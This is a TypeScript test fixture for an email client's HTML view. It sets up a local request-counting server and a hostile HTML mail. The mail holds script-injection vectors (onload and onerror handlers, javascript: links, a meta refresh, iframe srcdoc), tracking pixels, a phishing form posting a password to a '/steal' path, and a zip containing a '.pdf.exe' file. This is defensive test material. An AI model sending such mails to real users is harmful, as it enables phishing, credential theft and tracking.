/**
 * For the HTML view's end-to-end test: a tiny HTTP server standing in for the rest of the internet
 * (a tracking pixel, CSS backgrounds, a website, a form target), counting what it is asked for, and
 * a hostile HTML mail that points at it, with a zip holding a program among its attachments.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { htmlMail, PIXEL, zipOf } from '../support/html-mail.js';

export interface Outside {
  base: string;
  hits(path: string): number;
  close(): Promise<void>;
}

export async function outsideServer(): Promise<Outside> {
  const hits = new Map<string, number>();
  const server = http.createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    hits.set(path, (hits.get(path) ?? 0) + 1);
    if (path === '/site') {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<!doctype html><title>Buyer site</title><p>The buyer’s website</p>');
      return;
    }
    res.writeHead(200, { 'content-type': 'image/gif', 'cache-control': 'no-store' });
    res.end(PIXEL);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { base, hits: (path) => hits.get(path) ?? 0, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** The word the test searches the inbox for. */
export const HTML_MARKER = 'Zanzibarhtml';

/** Every way a mail's HTML could try to run code, leave the page, post a form or phone home. */
export function hostileHtml(base: string): string {
  return `<html><head>
<meta http-equiv="refresh" content="0;url=javascript:window.top.__pwned='refresh'">
<base href="${base}/base/">
<style>.lead { color: #0a5 } .banner { background: url(${base}/bg) }</style>
</head><body onload="window.top.__pwned='body'; alert(1)">
<p class="lead">Dear supplier, please quote 300 pcs as in the attached order ${HTML_MARKER}.</p>
<script>window.top.__pwned = 'script'; alert(2)</script>
<img src="${base}/pixel" alt="pixel" onload="window.top.__pwned='img-load'" onerror="window.top.__pwned='img'">
<img src="x" onerror="window.top.__pwned='img-x'; alert(3)">
<svg onload="window.top.__pwned='svg'"><circle r="4"></circle></svg>
<p><a href="javascript:window.top.__pwned='link';alert(4)">open the order</a> · <a href="${base}/site">our website</a></p>
<iframe src="${base}/frame" srcdoc="<script>top.__pwned='iframe'</script>"></iframe>
<form action="${base}/steal" method="post"><input name="password" type="password" placeholder="Email password"><button>Sign in</button></form>
<div class="banner" style="background-image: url(${base}/bg2)">Order summary</div>
</body></html>`;
}

export function hostileHtmlMail(base: string): Uint8Array {
  return htmlMail({
    from: 'Purchasing <orders@hostile-html.example>',
    subject: `Purchase order 4471 ${HTML_MARKER}`,
    text: `Dear supplier, please quote 300 pcs as in the attached order ${HTML_MARKER}.\nopen the order: javascript:void(0)`,
    html: hostileHtml(base),
    attachments: [
      { filename: 'Order_Details.zip', contentType: 'application/zip', content: zipOf({ 'Order_Details.pdf.exe': 'MZ', 'readme.txt': 'hi' }) },
      { filename: 'spec.pdf', contentType: 'application/pdf', content: new TextEncoder().encode('%PDF-1.4') },
    ],
  });
}
